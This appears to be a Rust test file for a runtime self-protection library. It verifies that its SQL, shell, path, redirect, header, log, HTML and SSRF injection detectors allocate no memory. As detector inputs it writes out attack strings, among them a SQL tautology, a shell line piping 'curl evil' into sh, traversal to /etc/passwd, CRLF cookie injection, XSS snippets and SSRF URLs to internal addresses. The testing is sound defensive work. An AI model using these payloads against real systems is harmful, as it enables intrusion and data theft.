//! The hot paths allocate nothing.
//!
//! `allocation_counter` replaces the global allocator of this test binary
//! and counts the allocations made by the current thread inside `measure`,
//! so tests running in parallel do not disturb each other. Each path runs
//! once before it is measured: the first use of a thread-local, or memchr's
//! CPU feature detection, may allocate once per thread or process, which is
//! not a per-call cost.

use std::hint::black_box;
use std::sync::Arc;

use rasp_core::check::check;
use rasp_core::class::SinkClass;
use rasp_core::sink::{Guard, SinkSite};
use rasp_core::{Html, RequestContext, SourceMeta, Tainted};

static SITE: SinkSite = SinkSite::new(
    "zero_alloc.sql",
    SinkClass::Sql,
    "zero_alloc::query",
    file!(),
    line!(),
    &["sql"],
    Guard::RuntimeChecked,
);

static SRC: SourceMeta = SourceMeta {
    kind: "test.input",
    ..SourceMeta::MANUAL
};

const SQL: &[u8] = b"SELECT u.id, u.name, u.email, o.total FROM users u \
    JOIN orders o ON o.user_id = u.id WHERE u.name = 'Ann -- the admin' \
    AND o.status = 'shipped' ORDER BY o.created_at DESC LIMIT 50";

const RUNS: usize = 1_000;

/// Allocations made by `RUNS` calls of `f`, after one call to warm up.
fn allocations(mut f: impl FnMut()) -> u64 {
    f();
    allocation_counter::measure(|| {
        for _ in 0..RUNS {
            f();
        }
    })
    .count_total
}

fn context(inputs: &[&str]) -> Arc<RequestContext> {
    let ctx = RequestContext::new();
    for input in inputs {
        assert!(ctx.record_input(&SRC, input.as_bytes()));
    }
    ctx
}

#[test]
fn check_without_a_context() {
    let n = allocations(|| black_box(check(&SITE, black_box(SQL))).unwrap());
    assert_eq!(n, 0);
}

#[test]
fn check_with_an_absent_input() {
    let ctx = context(&["nowhere in the text"]);
    let n = ctx.scope(|| allocations(|| black_box(check(&SITE, black_box(SQL))).unwrap()));
    assert_eq!(n, 0);
}

#[test]
fn check_with_a_present_benign_input() {
    let ctx = context(&["Ann -- the admin"]);
    let n = ctx.scope(|| allocations(|| black_box(check(&SITE, black_box(SQL))).unwrap()));
    assert_eq!(n, 0);
}

#[test]
fn check_with_eight_inputs_one_present() {
    let ctx = context(&[
        "first", "second", "third", "fourth", "fifth", "sixth", "seventh", "shipped",
    ]);
    assert_eq!(ctx.input_count(), 8);
    let n = ctx.scope(|| allocations(|| black_box(check(&SITE, black_box(SQL))).unwrap()));
    assert_eq!(n, 0);
}

/// Past the Aho-Corasick threshold, once the request's searcher is built
/// (its first check), a check where no input occurs allocates nothing, nor
/// does one where a present input is benign.
#[test]
fn check_with_many_inputs() {
    let texts: Vec<String> = (0..1_000).map(|i| format!("param-{i}")).collect();
    let mut inputs: Vec<&str> = texts.iter().map(String::as_str).collect();
    let ctx = context(&inputs);
    let n = ctx.scope(|| allocations(|| black_box(check(&SITE, black_box(SQL))).unwrap()));
    assert_eq!(n, 0);
    inputs.push("Ann -- the admin");
    let ctx = context(&inputs);
    let n = ctx.scope(|| allocations(|| black_box(check(&SITE, black_box(SQL))).unwrap()));
    assert_eq!(n, 0);
}

#[test]
fn blocking_an_injection() {
    // Block is the default mode and no test here changes it. Without a
    // subscriber the event costs nothing either.
    let attack = "x' OR '1'='1";
    let sql = format!("SELECT * FROM users WHERE name = '{attack}'");
    let ctx = context(&[attack]);
    let n = ctx.scope(|| allocations(|| assert!(check(&SITE, black_box(sql.as_bytes())).is_err())));
    assert_eq!(n, 0);
}

#[test]
fn deciding_an_injection_under_a_policy() {
    // Every lookup of the decision path is populated: allowlists, CIDRs, a
    // sink-id rule, a route rule with a canary. The policy still blocks this
    // site outside the route, so the other tests here are unaffected.
    // Repeats go through event deduplication (on by default) and every
    // detection is offered to the evidence log, whose per-key quota (on by
    // default) keeps the first 100 and counts the rest.
    let dir = tempfile::tempdir().unwrap();
    let evidence = dir.path().join("evidence.jsonl");
    let policy = rasp_core::policy::load_str(&format!(
        r#"
        schema_version = 1
        revision = 1
        mode = "block"
        [allow]
        routes = ["/healthz"]
        sinks = ["other.sink"]
        ips = ["10.0.0.0/8"]
        users = ["scanner"]
        tenants = ["qa"]
        [sink_ids."zero_alloc.sql"]
        action = "block"
        [routes."/search"]
        canary = 50
        [evidence]
        path = {:?}
        queue = 4096
        include_monitored = true
        "#,
        evidence.display().to_string()
    ))
    .unwrap();
    rasp_core::policy::install(policy).unwrap();
    let attack = "x' OR '1'='1";
    let sql = format!("SELECT * FROM users WHERE name = '{attack}'");
    let ctx = RequestContext::builder()
        .route("/search")
        .client_ip([192, 0, 2, 1].into())
        .user("ann")
        .tenant("acme")
        .build();
    assert!(ctx.record_input(&SRC, attack.as_bytes()));
    let n = ctx.scope(|| {
        allocations(|| {
            let _ = black_box(check(&SITE, black_box(sql.as_bytes())));
        })
    });
    assert_eq!(n, 0);
    assert!(rasp_core::policy::flush_evidence(
        std::time::Duration::from_secs(10)
    ));
    let status = rasp_core::policy::status();
    assert_eq!(status.evidence_dropped, 0);
    let text = std::fs::read_to_string(&evidence).unwrap();
    let recorded = text
        .lines()
        .filter(|l| !l.contains(r#""event.name":"rasp.evidence.suppressed""#))
        .count();
    assert_eq!(recorded, 100, "the key's quota");
    assert_eq!(
        recorded as u64 + status.evidence_suppressed,
        RUNS as u64 + 1,
        "every detection reached the log or its count"
    );
}

#[test]
fn sanitizing_clean_html_reuses_the_string() {
    let mut inputs: Vec<String> = (0..=RUNS).map(|i| format!("plain text {i}")).collect();
    let n = allocations(|| {
        let input = inputs.pop().expect("one input per run");
        let clean = Tainted::new(input, &SRC).sanitize::<Html>();
        black_box(clean);
    });
    assert_eq!(n, 0);
}

/// Not zero, but bounded: opening a context is one allocation (the `Arc`),
/// and recording up to four inputs of up to 24 bytes adds none. Inputs
/// past those, or longer, take one each, and an input with HTML specials
/// one more, for its escaped form.
#[test]
fn a_request_context_with_short_inputs_is_one_allocation() {
    let one_each = allocations(|| {
        let ctx = RequestContext::builder().route("/search").build();
        for input in ["q", "kettle", "page", "2"] {
            assert!(ctx.record_input(&SRC, input.as_bytes()));
        }
        drop(black_box(ctx));
    });
    assert_eq!(one_each, RUNS as u64);
    let long = "a value longer than twenty-four bytes";
    let with_long_input = allocations(|| {
        let ctx = RequestContext::new();
        assert!(ctx.record_input(&SRC, long.as_bytes()));
        drop(black_box(ctx));
    });
    assert_eq!(with_long_input, 2 * RUNS as u64);
    // An input with HTML specials also records its escaped form: one
    // allocation to escape it, none more while both fit inline (24 bytes).
    let with_specials = allocations(|| {
        let ctx = RequestContext::new();
        assert!(ctx.record_input(&SRC, b"O'Brien"));
        drop(black_box(ctx));
    });
    assert_eq!(with_specials, 2 * RUNS as u64);
}

#[test]
fn the_counter_sees_allocations() {
    let n = allocations(|| {
        black_box(String::from("allocates"));
    });
    assert_eq!(n, RUNS as u64);
}

#[test]
fn redirect_and_header_detectors() {
    use memchr::memmem::Finder;
    use rasp_core::detect::{header, redirect};

    let cases: [(&[u8], &[u8]); 4] = [
        (b"/search?q=shoes&page=2", b"shoes"),
        (b"https://shop.example/items/42", b"42"),
        (b"/\\evil.example/login", b"/\\evil.example/login"),
        (b"https://good.example@evil.example/", b"@evil.example/"),
    ];
    for (location, input) in cases {
        let finder = Finder::new(input);
        let n = allocations(|| {
            black_box(redirect::detect(black_box(location), &finder));
            black_box(redirect::destination(black_box(location)));
        });
        assert_eq!(n, 0, "{:?}", String::from_utf8_lossy(location));
    }
    let cases: [(&[u8], &[u8]); 3] = [
        (b"lang=en-GB; Path=/; HttpOnly", b"en-GB"),
        (b"lang=en; Domain=evil; Path=/", b"en; Domain=evil"),
        (b"x\r\nSet-Cookie: admin=1", b"x\r\nSet-Cookie: admin=1"),
    ];
    for (value, input) in cases {
        let finder = Finder::new(input);
        let n = allocations(|| {
            black_box(header::detect(black_box(value), &finder));
            black_box(header::detect_cookie(black_box(value), &finder));
        });
        assert_eq!(n, 0, "{:?}", String::from_utf8_lossy(value));
    }
}

#[test]
fn shell_and_path_detectors() {
    use memchr::memmem::Finder;
    use rasp_core::detect::{path, shell};

    let cases: [(&[u8], &[u8]); 4] = [
        (b"convert 'q3 report.png' out.webp", b"q3 report.png"),
        (b"dig +short x; curl evil | sh", b"x; curl evil | sh"),
        (b"logger \"$(id)\"", b"$(id)"),
        (b"--output=/tmp/x", b"--output=/tmp/x"),
    ];
    for (command, input) in cases {
        let finder = Finder::new(input);
        let n = allocations(|| {
            black_box(shell::detect(black_box(command), &finder));
            black_box(shell::detect_option(black_box(command), &finder));
        });
        assert_eq!(n, 0, "{:?}", String::from_utf8_lossy(command));
    }
    let cases: [(&[u8], &[u8]); 4] = [
        (b"/srv/media/2024/v1..v2.webp", b"2024/v1..v2.webp"),
        (b"/srv/media/../../etc/passwd", b"../../etc/passwd"),
        (b"/etc/passwd", b"/etc/passwd"),
        (b"/srv/media/a\0.png", b"a\0"),
    ];
    for (text, input) in cases {
        let finder = Finder::new(input);
        let n = allocations(|| {
            black_box(path::detect(black_box(text), &finder));
        });
        assert_eq!(n, 0, "{:?}", String::from_utf8_lossy(text));
    }
}

#[test]
fn log_and_html_detectors_and_the_escaped_log_field() {
    use memchr::memmem::Finder;
    use rasp_core::detect::{html, log};
    use rasp_core::{Log, Sanitize};

    let cases: [(&[u8], &[u8]); 3] = [
        (
            b"WARN login failed for user=Zo\xc3\xab ip=203.0.113.7",
            b"Zo\xc3\xab",
        ),
        (
            b"WARN login failed for user=bob\nINFO admin login ok",
            b"bob\nINFO admin login ok",
        ),
        (b"WARN user=bob\x1b[2J", b"bob\x1b[2J"),
    ];
    for (line, input) in cases {
        let finder = Finder::new(input);
        let n = allocations(|| {
            black_box(log::detect(black_box(line), &finder));
        });
        assert_eq!(n, 0, "{:?}", String::from_utf8_lossy(line));
    }
    let cases: [(&[u8], &[u8]); 4] = [
        (b"<p title=\"Ann & co\">Ann & co</p>", b"Ann & co"),
        (
            b"<p><script>alert(1)</script></p>",
            b"<script>alert(1)</script>",
        ),
        (b"<a title=\"x\" onclick=\"y\">t</a>", b"x\" onclick=\"y"),
        (
            b"<a href=\"&#106;avascript:alert(1)\">t</a>",
            b"&#106;avascript:alert(1)",
        ),
    ];
    for (page, input) in cases {
        let finder = Finder::new(input);
        let n = allocations(|| {
            black_box(html::detect(black_box(page), &finder));
        });
        assert_eq!(n, 0, "{:?}", String::from_utf8_lossy(page));
    }
    let mut out = String::with_capacity(256);
    let n = allocations(|| {
        out.clear();
        Log::write_escaped(black_box("bob\n\x1b[2J\u{2028}INFO ok"), &mut out).unwrap();
    });
    assert_eq!(n, 0);
    assert_eq!(out, "bob\\n\\u{1b}[2J\\u{2028}INFO ok");
}

#[test]
fn ssrf_detector() {
    use memchr::memmem::Finder;
    use rasp_core::detect::ssrf::{classify_host, detect};

    let cases: [(&[u8], &[u8]); 6] = [
        (
            b"http://10.0.0.5:8080/v1/orders/ord_8f2k1?x=1",
            b"ord_8f2k1",
        ),
        (
            b"https://hooks.example.net/t/42",
            b"https://hooks.example.net/t/42",
        ),
        (
            b"http://2130706433:8080/admin",
            b"http://2130706433:8080/admin",
        ),
        (
            b"http://[::ffff:127.0.0.1]:6379/",
            b"[::ffff:127.0.0.1]:6379",
        ),
        (
            b"http://%EF%BC%91%EF%BC%92%EF%BC%97.0.0.1/",
            b"%EF%BC%91%EF%BC%92%EF%BC%97.0.0.1",
        ),
        (b"gopher://10.0.0.3:11211/_stats", b"gopher"),
    ];
    for (url, input) in cases {
        let finder = Finder::new(input);
        let n = allocations(|| {
            black_box(detect(black_box(url), &finder));
            black_box(classify_host(black_box(input)));
        });
        assert_eq!(n, 0, "{:?}", String::from_utf8_lossy(url));
    }
}

/// A span-exact check of a built text allocates nothing: the spans are
/// judged in place, with or without a request context. Building the text
/// costs its one `String` (spans are inline up to four arguments).
#[test]
fn span_exact_checks_and_builds() {
    use rasp_core::Sql;
    use rasp_core::check::check_spliced;
    use rasp_core::spliced::Spliced;

    static SPAN_SITE: SinkSite = SinkSite::new(
        "zero_alloc.span",
        SinkClass::Sql,
        "tests::span",
        file!(),
        line!(),
        &[],
        Guard::SpanExact,
    );
    let name = Tainted::new("Ann -- the admin".to_owned(), &SRC);
    let build = || {
        let mut text = Spliced::<Sql>::__with_capacity(96);
        text.__literal("SELECT id FROM users WHERE name = '");
        text.__arg(&name);
        text.__literal("' AND age > ");
        text.__arg(&42_u32);
        text.__literal(" ORDER BY id");
        text
    };
    let text = build();
    assert_eq!(text.spans().len(), 1);
    assert_eq!(
        allocations(|| assert!(check_spliced(&SPAN_SITE, black_box(&text)).is_ok())),
        0
    );
    let ctx = RequestContext::new();
    ctx.scope(|| {
        assert_eq!(
            allocations(|| assert!(check_spliced(&SPAN_SITE, black_box(&text)).is_ok())),
            0
        );
    });
    assert_eq!(allocations(|| drop(black_box(build()))), RUNS as u64);
}
